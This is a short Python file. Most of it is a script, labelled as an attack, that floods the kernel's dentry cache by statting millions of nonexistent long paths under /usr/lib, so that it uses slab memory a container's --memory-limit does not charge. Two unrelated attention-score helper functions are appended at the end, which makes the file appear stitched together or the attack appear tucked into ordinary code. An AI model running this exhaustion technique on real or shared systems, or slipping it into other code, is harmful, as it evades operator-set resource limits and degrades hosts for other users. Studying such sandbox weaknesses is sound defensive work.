# Attack: kernel memory no limit counts: negative dentries.  stat() of a path that does not exist on a
# disk filesystem (the read-only bind of /usr is ext4 here) leaves a dentry in the kernel's cache;
# names longer than 32 bytes also allocate their name.  ~2 million of them: hundreds of MiB of slab,
# under --memory-limit 256M (reclaimable, but charged to nobody).
import math, os, time
N = int(os.environ.get("ATTACK_N", 2_000_000))
pad = os.urandom(8).hex() + "n" * 184  # fresh names each run
t0 = time.monotonic()
i = 0
for i in range(N):
    try:
        os.stat(f"/usr/lib/{pad}{i}")
    except OSError:
        pass
    if i % 65536 == 0 and time.monotonic() - t0 > 25:
        break
print("ATTACK stats", i, "in", round(time.monotonic() - t0, 1), "s")
time.sleep(2)
def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)
def scaled_scores(q, k):
    return scale_scores(q @ k.transpose(-2, -1), q.size(-1))
